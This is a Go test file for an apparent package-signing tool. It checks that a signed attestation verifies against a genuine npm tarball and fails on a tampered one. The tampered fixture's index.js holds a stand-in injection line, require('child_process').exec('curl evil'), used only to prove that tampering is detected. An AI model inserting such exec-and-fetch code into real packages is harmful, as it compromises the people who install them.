package main

import (
	"archive/tar"
	"bytes"
	"compress/gzip"
	"crypto/sha512"
	"encoding/base64"
	"encoding/hex"
	"os"
	"os/exec"
	"path/filepath"
	"strings"
	"testing"

	"github.com/mcpsign/mcpsign/attest"
)

// npmTarball writes a tarball laid out as npm pack writes one: with npm pack
// itself when npm is on PATH, else built in Go.
func npmTarball(t *testing.T, dir, name, index string) string {
	t.Helper()
	src := filepath.Join(dir, name)
	if err := os.MkdirAll(src, 0o755); err != nil {
		t.Fatal(err)
	}
	pj := `{"name":"@acme/notes-mcp","version":"1.2.0","files":["index.js"]}`
	os.WriteFile(filepath.Join(src, "package.json"), []byte(pj), 0o644)
	os.WriteFile(filepath.Join(src, "index.js"), []byte(index), 0o644)
	if npm, err := exec.LookPath("npm"); err == nil {
		cmd := exec.Command(npm, "pack", "--pack-destination", src)
		cmd.Dir = src
		cmd.Env = append(os.Environ(), "npm_config_cache="+filepath.Join(dir, ".npm"), "npm_config_update_notifier=false")
		if out, err := cmd.CombinedOutput(); err != nil {
			t.Fatalf("npm pack: %v\n%s", err, out)
		}
		return filepath.Join(src, "acme-notes-mcp-1.2.0.tgz")
	} else if os.Getenv("MCPSIGN_REQUIRE_E2E") == "1" {
		t.Fatal("npm not on PATH")
	}
	var buf bytes.Buffer
	zw := gzip.NewWriter(&buf)
	tw := tar.NewWriter(zw)
	for _, e := range [][2]string{{"package/package.json", pj}, {"package/index.js", index}} {
		tw.WriteHeader(&tar.Header{Name: e[0], Mode: 0o644, Size: int64(len(e[1])), Typeflag: tar.TypeReg})
		tw.Write([]byte(e[1]))
	}
	tw.Close()
	zw.Close()
	p := filepath.Join(src, "acme-notes-mcp-1.2.0.tgz")
	os.WriteFile(p, buf.Bytes(), 0o644)
	return p
}

func sha512File(t *testing.T, p string) (hexd, integrity string) {
	t.Helper()
	b, err := os.ReadFile(p)
	if err != nil {
		t.Fatal(err)
	}
	s := sha512.Sum512(b)
	return hex.EncodeToString(s[:]), "sha512-" + base64.StdEncoding.EncodeToString(s[:])
}

// TestPackageBinding signs with --package and verifies with
// --package-file and --package-integrity; a tampered tarball fails at the
// statement step naming both digests.
func TestPackageBinding(t *testing.T) {
	t.Parallel() // its own temporary directory and processes
	dir := t.TempDir()
	snap, _ := vtSnapshot(t, dir, "snap.json", nil)
	key := keyFile(t, "rsa-2048-pkcs1.pem")
	pub := filepath.Join(dir, "k.pub")
	os.WriteFile(pub, publicPEM(t, key, ""), 0o644)
	tgz := npmTarball(t, dir, "good", "console.log('notes')\n")
	tampered := npmTarball(t, dir, "tampered", "console.log('notes'); require('child_process').exec('curl evil')\n")
	good512, goodIntegrity := sha512File(t, tgz)
	bad512, badIntegrity := sha512File(t, tampered)

	out := filepath.Join(dir, "b.sigstore.json")
	if code, _, stderr := runWith(t, nil, "sign", "key", "--key", key, snap, "-o", out, "--package", tgz); code != 0 {
		t.Fatalf("sign: exit %d\n%s", code, stderr)
	}
	_, payload := bundlePayload(t, out)
	st, err := attest.Parse(payload)
	if err != nil {
		t.Fatal(err)
	}
	if p := st.Predicate.Package; len(p) != 1 || p[0].PURL != "pkg:npm/%40acme/notes-mcp@1.2.0" || len(p[0].Digest) != 1 || p[0].Digest["sha512"] != good512 {
		t.Fatalf("package %+v", p)
	}

	verifyArgs := []string{"verify", "key", snap, "--bundle", out, "--key", pub}
	for _, tc := range []struct {
		name  string
		extra []string
		code  int
		want  []string
	}{
		{"file", []string{"--package-file", tgz}, 0, []string{"package[0].purl \"pkg:npm/%40acme/notes-mcp@1.2.0\": verified"}},
		{"integrity", []string{"--package-integrity", goodIntegrity}, 0, []string{": verified"}},
		{"tampered file", []string{"--package-file", tampered}, 1, []string{"FAILED at step statement", "sha512:" + bad512, "sha512:" + good512}},
		{"tampered integrity", []string{"--package-integrity", badIntegrity}, 1, []string{"FAILED at step statement", "sha512:" + bad512, "sha512:" + good512}},
		{"bad integrity", []string{"--package-integrity", "sha1-abc"}, 2, []string{"want sha512-BASE64"}},
		{"not an artifact", []string{"--package-file", snap}, 2, []string{"--package-file", "want an npm tarball"}},
	} {
		t.Run(tc.name, func(t *testing.T) {
			code, stdout, stderr := runWith(t, nil, append(verifyArgs, tc.extra...)...)
			if code != tc.code {
				t.Fatalf("exit %d, want %d\n%s%s", code, tc.code, stdout, stderr)
			}
			for _, w := range tc.want {
				if !strings.Contains(stdout+stderr, w) {
					t.Errorf("output lacks %q:\n%s%s", w, stdout, stderr)
				}
			}
		})
	}
	// A file that is no artifact is refused by sign before anything is signed.
	if code, _, stderr := runWith(t, nil, "sign", "key", "--key", key, snap, "-o", filepath.Join(dir, "c.json"), "--package", snap); code != 2 || !strings.Contains(stderr, "--package:") {
		t.Errorf("sign --package snap: exit %d\n%s", code, stderr)
	}
}
